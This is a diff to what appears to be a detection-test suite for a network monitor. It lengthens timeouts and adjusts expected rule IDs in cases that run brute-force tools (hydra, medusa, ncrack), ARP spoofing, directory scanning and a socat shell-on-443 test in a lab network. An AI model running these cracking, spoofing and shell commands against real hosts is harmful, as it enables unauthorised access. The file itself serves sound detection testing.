@@ -82,13 +82,14 @@ def lists(s):
     return s.file("words", "\n".join(words) + "\n"), s.file("names", "\n".join(names) + "\n")
 
 
-def guess(name, hits, server, address, *command, also=(), sample=False, seconds=60):
+def guess(name, hits, server, address, *command, also=(), sample=False, seconds=150):
     """`@words` and `@names` in the command are the lists."""
     def act(s):
         words, names = lists(s)
         server(s)
         s.do("bad", *[str(w).replace("@words", str(words)).replace("@names", str(names)) for w in command], seconds=seconds)
-    case(name, {k: (BAD, address) for k in hits}, also, sample)(act)
+    # Slow machines guess slowly.
+    case(name, {k: (BAD, address) for k in hits}, set(also) | {2215}, sample)(act)
 
 
 guess("hydra ssh", [2213], servers.sshd, LAN, "hydra", "-I", "-t", "4", "-l", "root", "-P", "@words", f"ssh://{LAN}")
@@ -125,8 +126,8 @@ guess("hydra http form", [2210], servers.pages, LAN, "hydra", "-I", "-t", "4", "
 guess("medusa smb", [2210], servers.smbd, PC, "medusa", "-h", PC, "-u", "root", "-P", "@words", "-M", "smbnt", "-t", "2")
 guess("ncrack smb", [2210], servers.smbd, PC, "ncrack", "-u", "root", "-P", "@words", f"smb://{PC}")
 guess("ncrack rdp", [2213], servers.xrdp, PC, "ncrack", "-u", "root", "-P", "@words", f"rdp://{PC}", also={2212})
-guess("hydra postgres", [2213], servers.postgres, LAN, "hydra", "-I", "-t", "4", "-l", "postgres", "-P", "@words", f"postgres://{LAN}",
-      also={2210, 2130})
+guess("hydra postgres", [2210], servers.postgres, LAN, "hydra", "-I", "-t", "4", "-l", "postgres", "-P", "@words", f"postgres://{LAN}",
+      also={2213, 2130})
 guess("hydra snmp", [2210], servers.snmpd, LAN, "hydra", "-I", "-t", "4", "-P", "@words", f"snmp://{LAN}")
 guess("onesixtyone", [2210], servers.snmpd, LAN, "onesixtyone", "-c", "@words", LAN)
 guess("gobuster", [2206], servers.pages, LAN, "gobuster", "dir", "-q", "-u", f"http://{LAN}/", "-w", "/usr/share/dirb/wordlists/small.txt")
@@ -137,7 +138,7 @@ guess("dirb", [2206], servers.pages, LAN, "dirb", f"http://{LAN}/", "/usr/share/
 IMPACKET = "/usr/share/doc/python3-impacket/examples"
 
 
-def remote(name, hits, script, *arguments, also=(), data=None, seconds=25):
+def remote(name, hits, script, *arguments, also=(), data=None, seconds=75):
     def act(s):
         need(f"{IMPACKET}/{script}.py")
         servers.smbd(s)
@@ -197,6 +198,7 @@ def smb_day(s):
 @case("arpspoof", {2510: (BAD, GATE)}, also={2204}, sample=True)
 def arpspoof(s):
     s.begin("pc", "fping", "-l", "-p", "400", GATE)
+    s.do("bad", "fping", "-c", "2", DC, seconds=5)  # it has an address of its own
     s.do("bad", "arpspoof", "-i", "eth0", "-t", PC, GATE, seconds=14)
 
 
@@ -259,7 +261,7 @@ def dnsmasq(s, host, first, *more):
 def lease(s, host, times=1):
     for i in range(times):
         s.do(host, "dhclient", "-4", "-1", "-d", "-sf", "/bin/true", "-lf", s.folder / f"lease-{host}-{i}", "-pf",
-             s.folder / f"dhclient-{host}-{i}", "eth0", seconds=6)
+             s.folder / f"dhclient-{host}-{i}", "eth0", seconds=20)
 
 
 @case("second DHCP server", {2511: (None, None)})
@@ -402,11 +404,11 @@ def ssh_443(s):
     s.do("bad", "ssh", "-p", "443", *servers.ssh_key(s), f"root@{OUT}", "ls -lR /usr/share/doc | head -100", seconds=20)
 
 
-@case("socat shell on 443", {2122: (BAD, OUT)})
+@case("socat shell on 443", {2122: (BAD, "198.51.100.12")})
 def socat_443(s):
-    s.begin("out", "socat", "TCP-LISTEN:443,reuseaddr,fork", "SYSTEM:yes id \\; ls -l | head -200")
+    s.begin("out", "socat", "TCP-LISTEN:443,bind=198.51.100.12,reuseaddr,fork", "SYSTEM:yes id \\; ls -l | head -200")
     time.sleep(.6)
-    s.do("bad", "socat", "-u", f"TCP:{OUT}:443", "/dev/null", seconds=4)
+    s.do("bad", "socat", "-u", "TCP:198.51.100.12:443", "/dev/null", seconds=8)
 
 
 def proxy(s):
